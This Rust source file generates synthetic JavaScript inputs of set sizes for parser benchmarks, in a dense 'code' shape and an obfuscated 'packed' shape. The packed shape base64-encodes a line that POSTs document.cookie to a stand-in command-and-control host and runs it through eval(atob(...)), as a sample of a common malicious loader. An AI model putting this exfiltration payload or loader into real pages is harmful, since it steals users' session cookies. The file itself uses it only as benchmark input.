//! Script shapes shared by the JavaScript benchmarks (in-process and whole-process): a script of
//! about a given size in one of two shapes.
//! - `code`: dense code (functions, objects, DOM and network calls), the parser's worst case;
//! - `packed`: a small loader that decodes a large base64 string and evals it, the common shape
//!   of obfuscated scripts.

/// One function of the `code` shape.
fn code_block(i: usize) -> String {
    format!(
        "function helper_{i}(a, b) {{\n  var out = [];\n  for (var k = 0; k < 3; k++) {{ out.push(a + '-' + b + '-' + k); }}\n  \
         var cfg = {{ id: {i}, name: 'item{i}', tags: ['x', 'y', 'z'], nested: {{ on: true, n: {i} * 2 }} }};\n  \
         if (cfg.nested.on && out.length > 2) {{ document.title = cfg.name; }}\n  return out.join(',') + JSON.stringify(cfg);\n}}\n"
    )
}

pub fn code_script(size: usize) -> String {
    let mut s = String::with_capacity(size + 4096);
    let mut i = 0;
    while s.len() < size {
        s.push_str(&code_block(i));
        i += 1;
    }
    s.push_str(
        "var r = helper_1('a', 'b');\nnew Image().src = 'https://stats.example/p?r=' + r.length;\n",
    );
    s
}

pub fn packed_script(size: usize) -> String {
    // The payload: code that calls back home; padded with a long comment to the size.
    let mut payload = String::from(
        "fetch('https://c2.example/collect', { method: 'POST', body: document.cookie });\n/*",
    );
    let target = size * 3 / 4;
    while payload.len() < target {
        payload.push_str("lorem ipsum dolor sit amet ");
    }
    payload.push_str("*/\n");
    let b64 = base64(payload.as_bytes());
    format!("var p = '{b64}';\neval(atob(p));\n")
}

fn base64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for c in data.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for (j, shift) in [18, 12, 6, 0].into_iter().enumerate() {
            if j <= c.len() {
                out.push(T[(n >> shift) as usize & 63] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Makes a script of about the given size.
pub type Shape = fn(usize) -> String;

/// The shapes by name.
pub const SHAPES: [(&str, Shape); 2] = [("code", code_script), ("packed", packed_script)];

/// The sizes measured: label, bytes, samples.
pub const SIZES: [(&str, usize, usize); 3] = [
    ("100 KB", 100_000, 30),
    ("1 MB", 1_000_000, 15),
    ("10 MB", 10_000_000, 5),
];
